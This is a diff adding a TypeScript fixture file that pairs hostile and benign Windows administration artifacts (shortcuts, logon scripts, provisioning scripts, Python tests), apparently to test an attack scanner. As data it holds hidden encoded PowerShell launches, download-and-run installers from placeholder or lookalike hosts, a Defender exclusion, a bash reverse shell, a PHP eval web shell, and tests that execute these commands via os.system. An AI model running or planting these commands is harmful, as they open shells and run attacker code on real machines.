@@ -1,0 +1,120 @@
+/** What administrators put on computers, and tests of scanners, beside attacks of the same form. */
+
+import { writeZip } from '../zip-writer.ts'
+import { type Pair, pairs } from './matrix.ts'
+import { CODED, SERVER, SYSTEM, shortcut } from './shortcuts.ts'
+
+const file = (name: string, text: string): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
+const console = (args: string, more: object = {}): Uint8Array =>
+  shortcut({ environment: `${SYSTEM}cmd.exe`, args, isMinimized: true, ...more })
+
+const SHORTCUTS = pairs([
+  [
+    'a minimized script',
+    console(`/c start "" /min "\\\\${SERVER}\\apps\\start.cmd"`),
+    console('/c start "" /min "\\\\fs01\\apps\\scanner\\start.cmd" %COMPUTERNAME%', {
+      icon: '\\\\fs01\\apps\\scanner\\scanner.ico',
+    }),
+  ],
+  [
+    'a script of a web folder',
+    console('/c "\\\\files.example@80\\DavWWWRoot\\apps\\start.cmd"'),
+    console('/c "\\\\fs01\\apps\\start.cmd"'),
+  ],
+  [
+    'a script of a server on the internet',
+    console('/c call \\\\files.example\\apps\\a\\start.bat'),
+    console('/c call \\\\nas-2\\apps\\a\\start.bat /quiet'),
+  ],
+  [
+    'a script and something else',
+    console('/c start "" /min "\\\\fs01\\apps\\a.cmd" & mshta https://files.example/a'),
+    console('/k "\\\\fs01\\apps\\a\\a.cmd" %USERNAME%'),
+  ],
+  [
+    'a program',
+    shortcut({ environment: `\\\\${SERVER}\\apps\\tool\\tool.exe` }),
+    shortcut({ environment: '\\\\fs01\\apps\\tool\\tool.exe', args: '/site 4' }),
+  ],
+  [
+    'an icon',
+    console('/c "\\\\fs01\\apps\\a.cmd"', { icon: `\\\\${SERVER}\\s\\a.ico` }),
+    console('/c "\\\\fs01\\apps\\a.cmd"', { icon: '%SystemRoot%\\System32\\shell32.dll' }),
+  ],
+])
+
+const logon = (command: string): Uint8Array =>
+  file('logon.vbs', `Set sh = CreateObject("WScript.Shell")\r\nsh.Run "${command}", 0, False\r\n`)
+const hidden = (path: string): Uint8Array =>
+  logon(`powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File ${path}`)
+const LOGON = pairs([
+  ['another server', hidden(`\\\\${SERVER}\\netlogon\\a.ps1`), hidden('\\\\dc01\\netlogon\\a.ps1')],
+  ['a name of the internet', hidden('\\\\dc.files.example\\netlogon\\a.ps1'), hidden('%LOGONSERVER%\\netlogon\\a.ps1')],
+  ['a shared folder', hidden('\\\\dc01\\netlogon\\..\\..\\%TEMP%\\a.ps1'), hidden('\\\\school-dc\\sysvol\\a b\\a.ps1')],
+  ['a folder of anyone', hidden('C:\\Users\\Public\\a.ps1'), hidden('\\\\dc01\\NETLOGON\\office\\a.ps1')],
+  [
+    'code in place of a file',
+    logon(`powershell -w hidden -enc ${CODED}`),
+    logon('powershell -NoProfile -w 1 -File \\\\dc01\\netlogon\\a.ps1 -Quiet'),
+  ],
+])
+
+const CHOCOLATEY = 'https://community.chocolatey.org/install.ps1'
+const install = (url: string, more = ''): Uint8Array =>
+  file(
+    'provision.ps1',
+    `$ProgressPreference = 'SilentlyContinue'\niex ((New-Object System.Net.WebClient).DownloadString('${url}'))\nchoco install git\nchoco install nodejs-lts\nchoco install vscode\nchoco install 7zip\nchoco install openssh\nchoco install python312\nchoco install make\nAdd-MpPreference -ExclusionPath 'C:\\src'\n${more}`,
+  )
+const INSTALLERS = pairs([
+  ['another server', install('https://files.example/install.ps1'), install(CHOCOLATEY)],
+  ['a server named alike', install('https://community.chocolatey.org.files.example/install.ps1'), install(CHOCOLATEY)],
+  [
+    'a second server',
+    install(CHOCOLATEY, 'iwr https://files.example/a.exe -OutFile C:\\src\\a.exe; Start-Process C:\\src\\a.exe\n'),
+    install(
+      CHOCOLATEY,
+      'Invoke-WebRequest https://aka.ms/wslubuntu -OutFile ubuntu.appx; Add-AppxPackage ubuntu.appx\n',
+    ),
+  ],
+])
+
+const COMMANDS = `[\n    "powershell -nop -w hidden -enc ${CODED}",\n    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",\n    'mshta http://${SERVER}/a.hta',\n    b"<?php @eval($_POST['x']); ?>",\n]`
+const rules = (use: string, imports = 'import pytest\nfrom rules import score'): Uint8Array =>
+  file('test_rules.py', `"""Tests of the rules."""\n${imports}\n\nCOMMANDS = ${COMMANDS}\n\n${use}\n`)
+const PARAMETRIZED = '@pytest.mark.parametrize("command", COMMANDS)\ndef test_command(command):\n    '
+const TESTS = pairs([
+  [
+    'that starts them',
+    rules(`${PARAMETRIZED}assert os.system(command)`, 'import os\nimport pytest'),
+    rules(`${PARAMETRIZED}assert score(command) > 80`),
+  ],
+  [
+    'that starts them by a computed name',
+    rules(`${PARAMETRIZED}getattr(os, "metsys"[::-1])(command)`, 'import os\nimport pytest'),
+    rules(`${PARAMETRIZED}# it's a rule for cmd.exe\n    assert score(command) > 80`),
+  ],
+  [
+    'that starts them in a text',
+    rules(`${PARAMETRIZED}assert f"{__import__('os').system(command)}"`),
+    rules(
+      `def test_text(tmp_path):\n    path = tmp_path / "a.php"\n    path.write_bytes(COMMANDS[3])\n    assert score(path.read_text())`,
+    ),
+  ],
+  [
+    'that does something beside its tests',
+    rules('score(COMMANDS[0])\ndef test_a():\n    pass'),
+    rules('def test_a():\n    for command in COMMANDS:\n        assert score(command)'),
+  ],
+  [
+    'between quotes of another kind',
+    rules(`${PARAMETRIZED}a = "it's"; os.system(command); b = 's'`, 'import os\nimport pytest'),
+    rules(`class TestRules:\n    def test_a(self):\n        assert score("it's") == 0`),
+  ],
+])
+
+export const ADMINISTRATION: Readonly<Record<string, readonly Pair[]>> = {
+  'shortcuts to a file server': SHORTCUTS,
+  'hidden windows of a logon script': LOGON,
+  'installers beside an exclusion': INSTALLERS,
+  'tests with commands of attackers': TESTS,
+}
